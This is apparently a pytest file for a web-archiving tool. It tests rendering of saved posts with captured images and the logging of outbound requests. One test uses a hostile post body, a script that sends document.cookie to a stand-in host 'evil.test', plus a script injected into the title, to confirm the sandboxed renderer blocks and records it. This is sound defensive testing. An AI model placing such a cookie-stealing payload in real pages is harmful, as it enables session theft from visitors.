"""Posts as archiver renders them, with the pictures that a capture kept."""

from __future__ import annotations

from pathlib import Path

import pytest

from archiver.browser import Browser
from archiver.models import Asked, Outcome, PageOrigin, Post
from archiver.replay import show_source
from archiver.source import read_post
from archiver.store import Collection
from archiver.testing import media
from archiver.testing.http_server import Seen

from .conftest import PAGE, Committed, answered, page_of, words

pytestmark = [pytest.mark.browser, pytest.mark.asyncio(loop_scope="session")]


def written(folder: Path, body: str, title: str = "月亮湾") -> Post:
    path = folder / "post.txt"
    path.write_text(f"---\ntitle: '{title}'\nurl: {PAGE}\n---\n\n{body}\n", encoding="utf-8")
    return read_post(path)


async def test_the_post_is_shown_at_the_page_s_address_with_the_best_pictures(
    browser: Browser,
    collection: Collection,
    committed: Committed,
    asked: list[Seen],
    tmp_path: Path,
) -> None:
    url = "https://img.test/bay.jpg"
    refused = answered(url, b"no", "text/plain", status=403)
    got = answered(url, media.read("bay.jpg"), "image/jpeg", asked=Asked.NO_REFERRER)
    capture_id = committed(page_of("<p>what the site made of it"), refused, got)
    post = written(
        tmp_path, f"<p>First words.</p><img src={url}?w=640><img src=https://img.test/no.jpg>"
    )
    shown = await show_source(collection, capture_id, post, browser=browser)
    assert "月亮湾" in words(shown)
    assert "First words." in words(shown)
    assert "what the site made of it" not in words(shown)
    assert shown.capture.snapshot is not None
    assert shown.capture.snapshot.url == PAGE
    assert [state.outcome for state in shown.capture.snapshot.media] == [
        Outcome.LOADED,
        Outcome.FAILED,
    ]
    assert shown.capture.origin is PageOrigin.RENDERED
    assert shown.leaks == ("GET https://img.test/no.jpg",)
    (document,) = [entry for entry in shown.capture.ledger if entry.url == PAGE]
    assert (document.synthetic, document.status, document.record) == (True, 200, None)
    assert asked == []


async def test_a_hostile_post_reaches_nothing(
    browser: Browser,
    collection: Collection,
    committed: Committed,
    asked: list[Seen],
    tmp_path: Path,
) -> None:
    capture_id = committed(page_of("kept"))
    body = (
        "<p>words</p><script>alert(1); open('https://evil.test/');"
        " fetch('https://evil.test/?' + document.cookie)</script>"
    )
    post = written(tmp_path, body, title="<script>alert(2)</script>")
    shown = await show_source(collection, capture_id, post, browser=browser)
    assert "words" in words(shown)
    assert asked == []
    assert any(leak.startswith("GET https://evil.test/") for leak in shown.leaks)


async def test_a_capture_without_a_page_lends_its_pictures_all_the_same(
    browser: Browser, collection: Collection, committed: Committed, tmp_path: Path
) -> None:
    url = "https://img.test/bay.jpg"
    picture = answered(url, media.read("bay.jpg"), "image/jpeg", asked=Asked.NO_REFERRER)
    capture_id = committed(picture, shown=False, error="the page does not load: net::ERR_FAILED")
    post = written(tmp_path, f"<p>Words.</p><img src={url}>")
    shown = await show_source(collection, capture_id, post, browser=browser)
    assert "Words." in words(shown)
    assert shown.leaks == ()
